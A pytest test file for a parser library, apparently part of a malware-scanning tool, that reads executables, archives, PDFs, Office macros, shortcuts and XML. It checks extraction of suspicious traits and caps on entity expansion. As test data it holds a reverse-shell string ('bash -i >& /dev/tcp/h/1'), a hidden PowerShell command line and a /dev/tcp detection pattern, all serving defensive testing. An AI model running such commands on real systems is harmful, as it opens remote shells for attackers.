"""Parsers of programs and documents: what they read, and that any bytes give a value or a word."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from typing import Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from samples.recipes import documents, executables

from weighbridge.bytesource.memory import MemorySource
from weighbridge.errors import LimitReached, Malformed
from weighbridge.formats.archive.rar import RarMember, read_rar
from weighbridge.formats.documents.ole import OleFile, macro_source
from weighbridge.formats.documents.pdf import decoded, read_pdf
from weighbridge.formats.documents.xml_document import largest_expansion, read_xml
from weighbridge.formats.languages.java_class import read_class, read_dex
from weighbridge.formats.native.ar import read_ar
from weighbridge.formats.native.lnk import read_shortcut
from weighbridge.formats.native.native_image import ImageKind, read_elf, read_macho, read_pe
from weighbridge.formats.native.native_strings import command_lines
from weighbridge.formats.native.wasm import read_wasm

SAMPLES: Final = dict((*executables.samples(), *documents.samples()))


def _sample(name: str) -> bytes:
    return next(data for path, data in SAMPLES.items() if path.endswith(f"/{name}"))


def _read_pdf(data: bytes) -> object:
    document = read_pdf(data)
    return [list(document.scripts()), list(document.opening()), list(document.files())]


def _read_ole(data: bytes) -> object:
    compound = OleFile(data)
    return [
        (compound.read(entry), list(macro_source(compound.read(entry)))) for entry in compound.entries
    ]


READERS: Final[dict[str, tuple[Callable[[bytes], object], str]]] = {
    "wasm": (read_wasm, "page.wasm"),
    "class": (read_class, "Hostile.class"),
    "dex": (read_dex, "classes.dex"),
    "shortcut": (read_shortcut, "share.lnk"),
    "ar": (lambda data: list(read_ar(MemorySource(data))), "tool.deb"),
    "rar 5": (lambda data: list(read_rar(MemorySource(data))), "folder-trick.rar"),
    "rar 4": (lambda data: list(read_rar(MemorySource(data))), "old-encrypted.rar"),
    "pdf": (_read_pdf, "launch.pdf"),
    "ole": (_read_ole, "macros-act.doc"),
    "xml": (read_xml, "laughs.xml"),
    "elf": (read_elf, "server.so"),
    "pe": (read_pe, "downloader.exe"),
    "mach-o": (read_macho, "library.dylib"),
}


def _ends(read: Callable[[bytes], object], data: bytes) -> bool:
    """True when a reader gives a value or one of its own errors; anything else is raised."""
    try:
        read(data)
    except (Malformed, LimitReached):
        return True
    return True


@pytest.mark.parametrize("name", READERS)
@settings(deadline=None)
@given(data=st.binary(max_size=400))
def test_any_bytes_give_a_value_or_malformed(name: str, data: bytes) -> None:
    read, sample = READERS[name]
    assert _ends(read, _sample(sample)[:8] + data)


@pytest.mark.parametrize("name", READERS)
def test_a_sample_cut_anywhere_gives_a_value_or_malformed(name: str) -> None:
    read, sample = READERS[name]
    data = _sample(sample)
    step = max(1, len(data) // 400)
    assert all(_ends(read, data[:length]) for length in range(0, len(data), step))


@pytest.mark.parametrize("name", READERS)
@settings(deadline=None)
@given(at=st.integers(0, 10_000), byte=st.integers(0, 255))
def test_a_sample_with_another_byte_gives_a_value_or_malformed(name: str, at: int, byte: int) -> None:
    read, sample = READERS[name]
    data = bytearray(_sample(sample))
    data[at % len(data)] = byte
    assert _ends(read, bytes(data))


# Native code.


def test_an_elf_library_says_what_it_imports_and_needs() -> None:
    image = read_elf(executables.elf(("socket", "execve"), needed=("libm.so.6",), run_path="/tmp/a"))
    assert (image.kind, image.architecture) == (ImageKind.LIBRARY, "X86_64")
    assert image.imports >= {"socket", "execve"}
    assert (image.libraries, image.run_paths) == (("libm.so.6",), ("/tmp/a",))


def test_a_pe_program_says_what_it_imports_and_what_follows_it() -> None:
    image = read_pe(executables.pe({"urlmon.dll": ("URLDownloadToFileA",)}, tail=b"tail" * 8))
    assert (image.kind, image.libraries) == (ImageKind.PROGRAM, ("urlmon.dll",))
    assert "URLDownloadToFileA" in image.imports
    assert image.overlay is not None
    assert image.overlay[1] - image.overlay[0] == 32


def test_command_lines_are_found_in_narrow_and_wide_strings() -> None:
    wide = "powershell -w hidden".encode("utf-16-le")
    assert list(command_lines(b"\0\1bash -i >& /dev/tcp/h/1\0")) == ["bash -i >& /dev/tcp/h/1"]
    assert list(command_lines(b"MZ\1\2" + wide)) == ["powershell -w hidden"]
    assert list(command_lines(b"\0/dev/tcp/*/*\0")) == []


# Bytecode.


def test_a_class_names_its_members_and_literals() -> None:
    names = read_class(_sample("Hostile.class"))
    assert (names.name, names.members) == ("Hostile", frozenset({"java.lang.Runtime.exec"}))
    assert "/dev/tcp/" in names.strings[0]


def test_a_dex_file_names_its_methods() -> None:
    assert read_dex(_sample("classes.dex")).members == {"dalvik.system.DexClassLoader.<init>"}


def test_a_wasm_module_keeps_what_was_read_before_it_breaks() -> None:
    module = read_wasm(_sample("page.wasm") + b"\x02\xff")
    assert [(one.module, one.name) for one in module.imports] == [("env", "emscripten_run_script")]
    assert module.stopped is not None


# Shortcuts and archives.


def test_a_shortcut_says_what_it_starts_and_with_which_arguments() -> None:
    shortcut = read_shortcut(_sample("README.md.lnk"))
    assert shortcut.targets[0].endswith("powershell.exe")
    assert shortcut.arguments.startswith("-w hidden")
    assert shortcut.is_hidden


def test_a_shortcut_names_its_share() -> None:
    assert read_shortcut(_sample("share.lnk")).share == "\\\\host.example.invalid\\data"


@pytest.mark.parametrize("header", [b"#1/8            ", b"/0              "])
def test_long_names_of_ar_members_are_read(header: bytes) -> None:
    names = b"//              " + b" " * 32 + b"10        `\nlong.txt/\n"
    inline = b"long.txt" if header.startswith(b"#") else b""
    size = str(len(inline) + 2).ljust(10).encode()
    data = b"!<arch>\n" + names + header + b" " * 32 + size + b"`\n" + inline + b"ab"
    assert [(one.name, one.size) for one in read_ar(MemorySource(data))] == [("long.txt", 2)]


def test_a_stored_member_of_a_rar_is_where_it_is_said_to_be() -> None:
    data = _sample("stored.twin.rar")
    members = [one for one in read_rar(MemorySource(data)) if isinstance(one, RarMember)]
    assert [one.name for one in members] == ["notes.txt"]
    start, size = members[0].start, members[0].packed_size
    assert data[start : start + size] == executables.MARKER
    assert members[0].is_stored


def test_a_wrong_checksum_in_a_rar_header_is_malformed() -> None:
    data = bytearray(_sample("stored.twin.rar"))
    data[8] ^= 1
    with pytest.raises(Malformed, match="checksum"):
        list(read_rar(MemorySource(bytes(data))))


# Documents.


def _scripts(*objects: str) -> list[str]:
    return list(read_pdf(documents.pdf(*objects)).scripts())


@pytest.mark.parametrize(
    "text",
    ["/JS (app.beep\\(1\\))", "/J#53 (app.beep\\(1\\))", "/JS <6170702e62656570283129>"],
    ids=["literal", "escaped name", "hexadecimal"],
)
def test_scripts_of_a_pdf_are_read_however_they_are_written(text: str) -> None:
    assert _scripts(f"<< /S /JavaScript {text} >>") == ["app.beep(1)"]


def test_escapes_in_a_text_of_a_pdf_stand_for_bytes() -> None:
    assert _scripts("<< /JS (\\141\\(\\9\\n\\)) >>") == ["a(9\n)"]


def test_a_script_of_a_pdf_may_stand_in_a_stream() -> None:
    data = documents.pdf("<< /JS 2 0 R >>", streams={2: ("", b"app.beep(1)")})
    assert list(read_pdf(data).scripts()) == ["app.beep(1)"]


def test_objects_inside_of_a_compressed_stream_are_read() -> None:
    document = read_pdf(_sample("launch.pdf"))
    assert any(b"/Launch" in each.body for each in document.opening())


def test_a_stream_of_a_pdf_never_grows_beyond_its_bound() -> None:
    import zlib

    packed = zlib.compress(bytes(20 << 20))
    document = read_pdf(documents.pdf("<<>>", streams={2: ("/Filter /FlateDecode", packed)}))
    content = decoded(document.objects[2][0])
    assert content is not None
    assert len(content) == 16 << 20


def test_macros_are_decompressed() -> None:
    compound = OleFile(_sample("macros-act.doc"))
    module = next(entry for entry in compound.entries if entry.name == "Module1")
    (text,) = macro_source(compound.read(module))
    assert "Sub AutoOpen()" in text


def test_a_copy_token_of_a_macro_repeats_what_came_before() -> None:
    # Three literals, then a copy of nine bytes from three back: "abc" four times.
    tokens = b"\x08abc" + (0x2006).to_bytes(2, "little")
    body = b"\x00Attribut" + tokens
    module = b"\x01" + (0xB000 | (len(body) - 1)).to_bytes(2, "little") + body
    (text,) = macro_source(module)
    assert text == "Attribut" + "abc" * 4


@given(st.dictionaries(st.sampled_from("abcd"), st.text("abcd&;", max_size=12), max_size=4))
def test_the_size_of_entities_is_always_told(values: dict[str, str]) -> None:
    assert largest_expansion(values) >= max(map(len, values.values()), default=0)


def test_entities_in_a_circle_have_no_size() -> None:
    assert largest_expansion({"a": "&b;", "b": "&a;"}) == 2**62


def test_a_document_keeps_the_tree_that_was_read_before_it_breaks() -> None:
    document = read_xml(b"<a><b x='1'>text</b>")
    assert document.root is not None
    assert document.root[0].get("x") == "1"
    assert isinstance(document.stopped, Malformed)


def test_small_entities_are_expanded_and_large_ones_are_not() -> None:
    small = read_xml(b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;&x;</a>')
    assert small.root is not None
    assert small.root.text == "yy"
    large = read_xml(_sample("laughs.xml"))
    assert large.root is None
    assert isinstance(large.stopped, LimitReached)


def test_a_deep_document_is_a_limit() -> None:
    assert isinstance(read_xml(b"<a>" * 600).stopped, LimitReached)


def _count(items: Iterable[object]) -> int:
    return sum(1 for _ in items)


def test_a_pdf_without_objects_is_empty() -> None:
    assert _count(read_pdf(b"%PDF-1.7\n").all()) == 0
